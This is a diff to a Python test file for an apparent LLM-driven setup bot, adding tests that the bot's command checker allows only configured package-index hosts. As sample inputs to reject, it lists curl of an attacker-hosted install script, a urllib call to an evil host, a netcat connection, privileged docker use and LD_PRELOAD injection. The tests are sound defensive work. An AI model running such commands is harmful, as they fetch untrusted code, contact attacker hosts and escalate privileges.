@@ -52,10 +52,13 @@ def planner_for(settings):
         ('{"action": "shell", "argv": ["docker", "-H", "unix:///var/run/docker.sock", "ps"]}', "engine socket"),
         ('{"action": "shell", "argv": ["docker", "run", "--privileged", "alpine"]}', "privileges"),
         ('{"action": "shell", "argv": ["sed", "-i", "s/x/y/", ".github/workflows/ci.yml"]}', "workflows"),
-        ('{"action": "shell", "argv": ["curl", "https://attacker.example.net/install.sh"]}', "not a package registry"),
+        (
+            '{"action": "shell", "argv": ["curl", "https://attacker.example.net/install.sh"]}',
+            "not a package index this host uses",
+        ),
         (
             '{"action": "shell", "argv": ["python", "-c", "import urllib.request as u; u.urlopen(\'http://x.evil.io/\')"]}',
-            "not a package registry",
+            "not a package index this host uses",
         ),
         ('{"action": "shell", "argv": ["nc", "10.0.0.1", "4444"]}', "network tools"),
         ('{"action": "set_env", "name": "LD_PRELOAD", "value": "/tmp/x.so"}', "not allowed"),
@@ -258,3 +261,24 @@ def test_an_llm_repair_no_clean_replay_proved_stays_out_of_the_dockerfile(tmp_pa
     assert rec.status != "success"
     assert "libfrob-py" not in rec.dockerfile
     assert any("no clean replay proved them" in w for w in rec.warnings)
+
+
+def test_a_command_may_name_the_hosts_of_the_indexes_this_host_uses_and_no_other(tmp_path):
+    """No registry host is written in setupbot: a private index that pip is configured with may
+    be named, pip's own default index when none replaces it, and nothing else (Debian's archive
+    and the crate registry are reached through the install actions, which name no host)."""
+    from bot.indexes import index_hosts
+    from bot.loop.llm import check_command
+
+    fetch = ["python", "-m", "pip", "download", "--no-deps", "https://{}/simple/attrs/"]
+    private = index_hosts({"PIP_INDEX_URL": "https://user:pw@pkgs.internal.example/simple", "HOME": str(tmp_path)})
+    assert private == {"pkgs.internal.example"}
+    check_command([a.format("pkgs.internal.example") for a in fetch], allowed_hosts=private)
+    with pytest.raises(ActionRejected, match="reaches pypi.org, which is not a package index this host uses"):
+        check_command([a.format("pypi.org") for a in fetch], allowed_hosts=private)
+    default = index_hosts({"HOME": str(tmp_path), "PIP_CONFIG_FILE": "/dev/null"})
+    assert "pypi.org" in default  # pip's own default, asked of pip
+    check_command([a.format("pypi.org") for a in fetch], allowed_hosts=default)
+    for host in ("deb.debian.org", "attacker.example.net"):
+        with pytest.raises(ActionRejected, match=f"reaches {host}"):
+            check_command(["curl", "-fsSL", f"https://{host}/x"], allowed_hosts=default)
